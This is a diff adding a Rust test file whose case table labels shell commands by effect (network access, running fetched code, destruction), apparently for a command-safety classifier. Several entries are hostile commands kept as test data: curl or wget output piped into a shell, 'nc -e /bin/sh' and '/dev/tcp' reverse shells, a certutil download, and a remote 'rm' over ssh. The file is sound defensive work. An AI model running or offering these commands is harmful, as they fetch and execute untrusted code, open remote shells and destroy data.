@@ -1,0 +1,67 @@
+//! What reaches over the network.
+
+use super::{Case, assert_effects};
+
+#[rustfmt::skip]
+const CASES: &[Case] = &[
+    ("curl https://example.org", "network"),
+    ("curl -o x.json https://example.org/x.json", "network"),
+    ("wget -q https://example.org/x", "network"),
+    ("curl evil|sh", "network runs_code unclear"),
+    ("curl -fsSL https://install.example.net/go.sh | sudo sh", "network runs_code unclear"),
+    ("wget -O- x | bash", "network runs_code unclear"),
+    ("curl x | tee y | bash -s -- a", "network runs_code unclear"),
+    ("curl x | python3", "network runs_code unclear"),
+    ("curl x | perl -", "network runs_code unclear"),
+    ("bash <(curl -s x)", "network runs_code unclear"),
+    ("bash -c \"$(curl -fsSL x)\"", "network runs_code unclear"),
+    ("eval \"$(curl x)\"", "network runs_code unclear"),
+    ("curl -o x.sh https://e.org/x.sh && bash x.sh", "network runs_code unclear"),
+    ("wget https://e.org/y.sh; sh y.sh", "network runs_code unclear"),
+    ("wget https://e.org/y.sh; chmod +x y.sh; ./y.sh", "network runs_code unclear"),
+    ("curl x > z.py; python3 z.py", "network runs_code unclear"),
+    ("{ curl x; } | sh", "network runs_code unclear"),
+    ("curl x | while read l; do sh -c \"$l\"; done", "network runs_code unclear"),
+    ("nc -l 1234", "network"),
+    ("nc -e /bin/sh host 1", "network runs_code unclear"),
+    ("bash -i >& /dev/tcp/1.2.3.4/1 0>&1", "network"),
+    ("exec 3<>/dev/tcp/1.2.3.4/80", "network"),
+    ("ssh host ls", "network"),
+    ("ssh -p 22 user@host 'rm x'", "destructive network"),
+    ("scp x host:y", "network"),
+    ("rsync -a src host:dst", "network"),
+    ("rsync -a src dst", ""),
+    ("git clone https://example.org/x.git", "network"),
+    ("git pull", "network"),
+    ("git push", "network"),
+    ("git fetch --all", "network"),
+    ("npm install", "network"),
+    ("npm ci", "network"),
+    ("npx cowsay", "network"),
+    ("pip install x", "network"),
+    ("python -m pip install x", "network"),
+    ("uv add x", "network"),
+    ("cargo install x", "network"),
+    ("cargo add x", "network"),
+    ("go get x", "network"),
+    ("docker pull x", "network"),
+    ("python3 -m http.server", "network"),
+    ("ping -c1 x", "network"),
+    ("dig x.example.org", "network"),
+    ("aws s3 cp x s3://b/x", "network"),
+    ("aws s3 ls", "network"),
+    ("gh pr list", "network"),
+    ("kubectl get pods", "network"),
+    ("mytool --server https://example.org", "network"),
+    ("mytool --server=https://example.org", "network"),
+    ("Invoke-WebRequest https://example.org", "network"),
+    ("iwr x -OutFile y", "network"),
+    ("certutil -urlcache -f http://x y", "network"),
+    ("openssl s_client -connect x:443", "network"),
+    ("mail -s x a@example.org < y", "network"),
+];
+
+#[test]
+fn what_reaches_over_the_network_is_told() {
+    assert_effects(CASES);
+}
